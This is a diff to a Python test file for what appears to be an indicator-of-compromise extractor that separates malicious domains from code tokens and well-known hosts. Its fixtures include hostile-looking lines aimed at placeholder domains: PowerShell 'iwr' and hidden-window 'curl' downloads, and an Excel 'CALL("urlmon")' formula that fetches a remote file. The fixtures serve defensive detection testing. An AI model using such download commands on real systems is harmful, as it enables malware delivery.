@@ -34,7 +34,7 @@ def judged(*lines: str) -> list[tuple[str, str | None]]:
         ),
         (
             ['powershell -c "iwr evil-b.top/s; ping google.com"'],
-            [("evil-b.top/s", None), ("google.com", refusals.CODE)],
+            [("evil-b.top/s", None), ("google.com", refusals.WELL_KNOWN)],
         ),
         (
             ['=CALL("urlmon","x",0,"h"&"ttp"&"://evil"&"-c.to"&"p/a.png",0)'],
@@ -45,6 +45,14 @@ def judged(*lines: str) -> list[tuple[str, str | None]]:
             ['var key = "5f4dcc3b5aa765d61d8327deb882cf99";'],
             [("5f4dcc3b5aa765d61d8327deb882cf99", refusals.CODE_HASH)],
         ),
+        (['var host = "evil-l.top"; a.open(host);'], [("evil-l.top", None), ("a.open", refusals.CODE)]),
+        (["powershell -w hidden curl -k evil-m.top"], [("evil-m.top", None)]),
+        (["powershell -c ping benign-a.com"], [("benign-a.com", refusals.CODE)]),
+        (["if (document.location.host) {"], [("document.location.host", refusals.CODE)]),
+        # lists within sentences, as dispatches write them
+        (["- evil-n.top, evil-o.top;"], [("evil-n.top", None), ("evil-o.top", None)]),
+        (["Tên miền evil-p.top(Mozi);"], [("evil-p.top", None)]),
+        (["máy chủ (C2) evil-q.top;"], [("evil-q.top", None)]),
         # keys and versions
         (
             ["License Code: 5F4DCC3B5AA765D61D8327DEB882CF99"],
